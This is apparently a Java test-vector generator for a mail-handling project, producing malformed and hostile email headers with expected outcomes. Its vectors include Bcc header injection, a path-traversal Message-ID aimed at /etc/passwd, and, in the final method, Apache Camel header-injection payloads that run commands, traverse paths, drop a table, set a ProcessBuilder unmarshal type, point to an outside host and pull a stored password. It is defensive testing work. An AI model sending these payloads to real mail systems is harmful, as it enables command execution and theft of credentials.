package dev.mailshell.crypto.cms;

import static dev.mailshell.crypto.cms.HostileVectorMaker.HEAD;

import java.nio.charset.StandardCharsets;
import java.util.List;

/** Headers that are none, or that want to be taken for something. */
final class HostileHeaders {

    private static final String MALFORMED = "MAIL_MALFORMED";
    private static final String PLAIN = "NOT_ENCRYPTED";

    private final HostileVectorMaker maker;

    HostileHeaders(HostileVectorMaker maker) {
        this.maker = maker;
    }

    void write() throws Exception {
        nearlyNothing();
        lines();
        bytes();
        fields();
        camel();
    }

    private void nearlyNothing() throws Exception {
        maker.mail("empty", MALFORMED, "no byte", "");
        maker.mail("one-lf", PLAIN, "one LF: a header without a field", "\n");
        maker.mail("one-crlf", PLAIN, "one CRLF", "\r\n");
        maker.mail("blank-lines", PLAIN, "a thousand empty lines", "\r\n".repeat(1000));
        maker.mail("one-nul", MALFORMED, "one NUL", "\0");
        maker.mail("one-byte", MALFORMED, "one letter", "x");
        maker.mail("header-alone", MALFORMED, "a header and nothing after it", HEAD);
        maker.mail("header-and-empty-line", PLAIN, "a header and an empty line", HEAD + "\r\n");
        maker.mail("body-alone", PLAIN, "an empty header and a command", "\r\n@web1\r\n\r\nuptime\r\n");
        maker.mail("last-line-cut", MALFORMED, "a header that ends in a name", HEAD + "X-Cut");
    }

    private void lines() throws Exception {
        String text = HEAD + "Content-Type: text/plain\r\n\r\nuptime\r\n";
        maker.mail("cr-only", MALFORMED, "lines end with CR", text.replace("\n", ""));
        maker.mail("lf-only", PLAIN, "lines end with LF", text.replace("\r", ""));
        maker.mail("crcrlf", MALFORMED, "lines end with CR CR LF", text.replace("\r", "\r\r"));
        maker.mail("line-without-colon", MALFORMED, "a line without a colon", HEAD + "uptime\r\n\r\nx\r\n");
        maker.mail("line-of-a-colon", MALFORMED, "a field without a name", HEAD + ": uptime\r\n\r\nx\r\n");
        maker.mail(
                "mbox-line", MALFORMED, "the first line of an mbox", "From alice Sat Nov 21 12:00:00 2026\r\n" + text);
        maker.mail("folded-first", MALFORMED, "the first line is a continuation", " X: y\r\n" + text);
        maker.mail("folded-to-nothing", PLAIN, "continuations of white space", "X:\r\n \r\n\t\r\n   \r\n" + text);
        maker.mail(
                "folded-end-of-header",
                PLAIN,
                "a continuation that looks like the end of the header and a body",
                "X: y\r\n \r\n Content-Type: application/pkcs7-mime\r\n" + text);
        maker.mail("folded-5000-times", PLAIN, "5000 continuations", "X: y\r\n" + " a\r\n".repeat(5000) + text);
        maker.mail("space-before-colon", PLAIN, "white space before the colon", "X-A \t: y\r\n" + text);
        maker.mail("space-in-name", MALFORMED, "white space in a name", "X A: y\r\n" + text);
    }

    private void bytes() throws Exception {
        String text = HEAD + "Content-Type: text/plain\r\n\r\nuptime\r\n";
        maker.mail("nul-in-value", MALFORMED, "a NUL in a value", "X: a\0b\r\n" + text);
        maker.mail("nul-in-name", MALFORMED, "a NUL in a name", "X\0Y: a\r\n" + text);
        maker.mail("cr-in-value", MALFORMED, "a bare CR in a value", "X: a\rBcc: mallory@mail.test\r\n" + text);
        maker.mail("latin-1-in-value", PLAIN, "bytes above 127 in a value", "X: \u00e4\u00f6\u00fc\u00ff\r\n" + text);
        maker.mail("latin-1-in-name", MALFORMED, "bytes above 127 in a name", "X-\u00e4: y\r\n" + text);
        maker.mail("controls-in-value", PLAIN, "terminal controls in a value", "X: \u001b[2J\u0007\b\u0085\r\n" + text);
        maker.mail("utf-8-bom", MALFORMED, "a byte order mark of UTF-8 at the front", "\u00ef\u00bb\u00bf" + text);
        byte[] wide = text.getBytes(StandardCharsets.UTF_16);
        maker.mail("utf-16-with-bom", MALFORMED, "all of it in UTF-16 with a byte order mark", wide);
        maker.mail("utf-16-le", MALFORMED, "all of it in UTF-16LE", text.getBytes(StandardCharsets.UTF_16LE));
        maker.mail("utf-32", MALFORMED, "all of it in UTF-32", text.getBytes("UTF-32"));
        maker.mail("nul-in-body", PLAIN, "a body of NULs", text + "\0".repeat(500));
        maker.mail("delete-in-name", MALFORMED, "DEL in a name", "X\u007f: y\r\n" + text);
    }

    private void fields() throws Exception {
        String end = "Content-Type: text/plain\r\n\r\nuptime\r\n";
        maker.mail("fields-200", PLAIN, "200 fields", "X: y\r\n".repeat(196) + HEAD + end);
        maker.mail("fields-201", MALFORMED, "201 fields", "X: y\r\n".repeat(197) + HEAD + end);
        maker.mail(
                "from-2000-people",
                PLAIN,
                "a From of 2000 addresses",
                "From: " + "a@b.c,\r\n ".repeat(2000) + "a@b.c\r\n" + end);
        maker.mail("from-many-times", PLAIN, "From ten times", "From: alice@mail.test\r\n".repeat(10) + end);
        maker.mail("from-nobody", PLAIN, "neither From nor To", end);
        maker.mail("from-group", PLAIN, "a From that is a group", "From: undisclosed:;\r\n" + end);
        maker.mail("from-unbalanced", PLAIN, "a From of quotes and brackets", "From: \"<<(((\\\r\n" + end);
        maker.mail(
                "message-id-is-a-path",
                PLAIN,
                "a Message-ID that is a path",
                "Message-ID: <../../../etc/passwd@x>\r\n" + end);
        maker.mail(
                "message-id-long",
                PLAIN,
                "a Message-ID of 20 KB",
                "Message-ID: <" + "a".repeat(20_000) + "@x>\r\n" + end);
        maker.mail("message-id-twice", PLAIN, "two Message-IDs", "Message-ID: <a@x>\r\nMessage-ID: <b@x>\r\n" + end);
        int number = 0;
        for (String date : List.of(
                "Mon, 99 Foo 99999 99:99:99 +9999",
                "Thu, 01 Jan 0000 00:00:00 -0000",
                "-9223372036854775808",
                "Fri, 31 Dec 2026 23:59:60 +0000",
                "((((((((",
                "")) {
            maker.mail("date-absurd-" + ++number, PLAIN, "a date that is none", "Date: " + date + "\r\n" + end);
        }
        maker.mail(
                "encoded-words",
                PLAIN,
                "encoded words that hold line ends",
                "Subject: =?utf-8?Q?a=0D=0ABcc:_mallory=40mail.test?= =?no-such?Q?=ZZ?= =?utf-8?B?////?=\r\n" + end);
        maker.mail(
                "mime-version-twice",
                MALFORMED,
                "MIME-Version twice",
                "MIME-Version: 1.0\r\nmime-version: 1.0\r\n" + end);
        maker.mail("mime-version-9", PLAIN, "MIME-Version 9.9", "MIME-Version: 9.9 (((\r\n" + end);
        maker.mail(
                "disposition-twice",
                MALFORMED,
                "Content-Disposition twice",
                "Content-Disposition: inline\r\ncontent-disposition: attachment\r\n" + end);
    }

    /** CVE-2026-33454 and its like: names that a route component would obey. */
    private void camel() throws Exception {
        String target = "/tmp/pwned";
        String all = String.join(
                "\r\n",
                "CamelExecCommandExecutable: /usr/bin/touch",
                "CamelExecCommandArgs: " + target,
                "CamelExecCommandTimeout: 1",
                "CamelExecCommandWorkingDir: /",
                "CamelExecUseStderrOnEmptyStdout: true",
                "CamelMailMoveTo: mailshell/pwned",
                "CamelMailCopyTo: mailshell/pwned",
                "CamelMailDelete: true",
                "moveTo: mailshell/pwned",
                "copyTo: mailshell/pwned",
                "delete: true",
                "CamelFileName: ../../pwned",
                "CamelOverruleFileName: ../../pwned",
                "CamelFileAbsolutePath: " + target,
                "CamelBeanMethodName: close",
                "CamelHttpUri: http://mallory.test/",
                "CamelSqlQuery: drop table command",
                "CamelJacksonUnmarshalType: java.lang.ProcessBuilder",
                "CamelToEndpoint: exec:touch",
                "CamelRedelivered: true",
                "CamelExceptionCaught: x",
                "org.apache.camel.MessageHistory: x",
                "org.apache.camel.component.mail: x",
                "breadcrumbId: ../../pwned");
        String body = "\r\n\r\nuptime\r\n";
        maker.mail("camel", PLAIN, "each header that a component of Camel obeys", HEAD + all + body);
        maker.mail("camel-lower-case", PLAIN, "the same in lower case", HEAD + all.replace("Camel", "camel") + body);
        maker.mail("camel-upper-case", PLAIN, "the same in upper case", HEAD + all.replace("Camel", "CAMEL") + body);
        maker.mail(
                "camel-folded",
                PLAIN,
                "the same, each folded behind its name",
                HEAD + all.replace(": ", ":\r\n ") + body);
        String expressions = all.replaceAll(": [^\r]*", ": \\${bean:spool.pending} {{mailshell.imap.password}}");
        maker.mail("camel-expressions", PLAIN, "the same, with expressions as values", HEAD + expressions + body);
        maker.mail(
                "camel-sealed",
                "SIGNER_UNKNOWN",
                "the same before a mail of mallory",
                all + "\r\n" + maker.strangerText());
    }
}
